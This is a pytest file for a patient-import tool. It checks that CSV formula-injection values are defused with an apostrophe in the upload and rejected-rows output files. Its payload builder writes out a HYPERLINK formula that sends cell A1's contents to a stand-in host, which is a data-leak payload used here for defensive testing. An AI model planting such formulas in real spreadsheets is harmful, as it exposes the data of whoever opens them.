"""CSV formula injection: no value reaches the upload file or the rejected-rows file as a live formula.

Every column of the export, phones and e-mail included, carries values starting with = + - @ tab
and CR; both output files are read back with the csv module, cell by cell.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from include.patient_import.schema import FIELDS, UPLOAD_EXTRA_COLUMNS
from tools.corpus import csv_text, prepare_home, run_import
from tools.harness.registry import practice, registry_yaml

pytestmark = [pytest.mark.unit, pytest.mark.timeout(60)]

PRACTICE = "formula_clinic"
REGISTRY = registry_yaml(practice(PRACTICE, "Formula Clinic", upload_extra_columns=list(UPLOAD_EXTRA_COLUMNS)))
STARTS = ("=", "+", "-", "@", "\t", "\r")
LIVE = STARTS  # what a spreadsheet runs as a formula (SPEC §5)
HEADERS = [f.header for f in FIELDS]
VALID = {"account_number": "1", "last_name": "Doe", "first_name": "Jan", "middle_initial": "Q",
         "address1": "1 Main St", "address2": "Apt 2", "city": "Springfield", "state": "IL",
         "zip": "62704", "home_phone": "(217) 555-0100", "cell_phone": "(217) 555-0101",
         "email": "jan.doe@example.com", "birth_date": "03/14/1987", "gender": "F", "status": "Active",
         "last_visit": "11/02/2026"}


def _payload(start: str, field: str) -> str:
    """A formula in the field's clothes: it must survive normalising to be a threat."""
    if field == "email":
        return f"{start}cmd@example.com"  # '=' and '+' are legal in an address's local part
    if field in ("home_phone", "cell_phone"):
        return f"{start}2175550102"
    if field == "zip":
        return f"{start}62704"
    return f'{start}HYPERLINK("http://example.invalid/?leak="&A1,"Open")'


def _rows() -> list[list[str]]:
    rows = []
    account = 5000
    for start in STARTS:
        for field in VALID:
            if field == "account_number":
                continue
            account += 1
            values = dict(VALID, account_number=str(account), **{field: _payload(start, field)})
            rows.append([values[f.name] for f in FIELDS])
    # Formula account numbers: rejected rows, written to the rejected-rows file as read.
    for start in STARTS:
        rows.append([_payload(start, "account_number")] + [VALID[f.name] for f in FIELDS[1:]])
    return rows


@pytest.fixture(scope="module")
def outputs(tmp_path_factory):
    home = tmp_path_factory.mktemp("formula_home")
    with pytest.MonkeyPatch.context() as mp:
        engine = prepare_home(home, mp, practices_yaml=REGISTRY)
        export = home / "formulas.csv"
        export.write_text(csv_text(_rows(), header=[*HEADERS[:-1], "=" + HEADERS[-1]]), encoding="utf-8")
        [imported] = run_import(engine, export, run_id="formulas", practice_id=PRACTICE)
        engine.dispose()
    return imported.report


def _cells(path: str) -> list[list[str]]:
    with Path(path).open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def test_export_with_formulas_is_imported_with_its_formula_account_rows_rejected(outputs):
    assert outputs["status"] == "completed_with_errors"
    assert outputs["counts"]["rejected"] == len(STARTS)
    assert outputs["counts"]["inserted"] == len(STARTS) * (len(VALID) - 1)


@pytest.mark.parametrize("which", ["upload", "rejected_rows"])
def test_no_cell_of_an_output_file_is_a_live_formula(outputs, which):
    cells = _cells(outputs["files"][which])

    live = [(r, c, v[:1]) for r, row in enumerate(cells) for c, v in enumerate(row) if v.startswith(LIVE)]
    assert live == []


@pytest.mark.parametrize("which", ["upload", "rejected_rows"])
def test_defused_values_keep_their_text_after_the_apostrophe(outputs, which):
    values = {v for row in _cells(outputs["files"][which]) for v in row}

    defused = {v for v in values if v.startswith("'")}
    assert any(v.startswith("'=HYPERLINK(") for v in defused)
    assert any(v.startswith("'@HYPERLINK(") for v in defused)


def test_email_and_name_formulas_reach_the_upload_file_defused(outputs):
    rows = _cells(outputs["files"]["upload"])
    header, body = rows[0], rows[1:]
    emails = {row[header.index("Email")] for row in body}
    names = {row[header.index("LastName")] for row in body}

    assert {"'=cmd@example.com", "'+cmd@example.com", "'-cmd@example.com"} <= emails
    assert {f"'{s}HYPERLINK" for s in "=+-@"} <= {n[:11] for n in names}


def test_raw_tab_and_cr_formulas_reach_the_rejected_rows_file_defused(outputs):
    rows = _cells(outputs["files"]["rejected_rows"])
    accounts = {row[rows[0].index("Account #")] for row in rows[1:]}

    assert {a[:2] for a in accounts} >= {"'\t", "'\r", "'=", "'+", "'-", "'@"}


def test_formula_phone_numbers_never_reach_the_upload_file(outputs):
    rows = _cells(outputs["files"]["upload"])
    header = rows[0]
    phones = {row[header.index(name)] for row in rows[1:] for name in ("Phone", "Cell")}

    assert all(p == "" or p.isdigit() for p in phones), phones


def test_a_formula_header_is_defused_in_the_rejected_rows_file(outputs):
    header = _cells(outputs["files"]["rejected_rows"])[0]

    assert "'=" + HEADERS[-1] in header
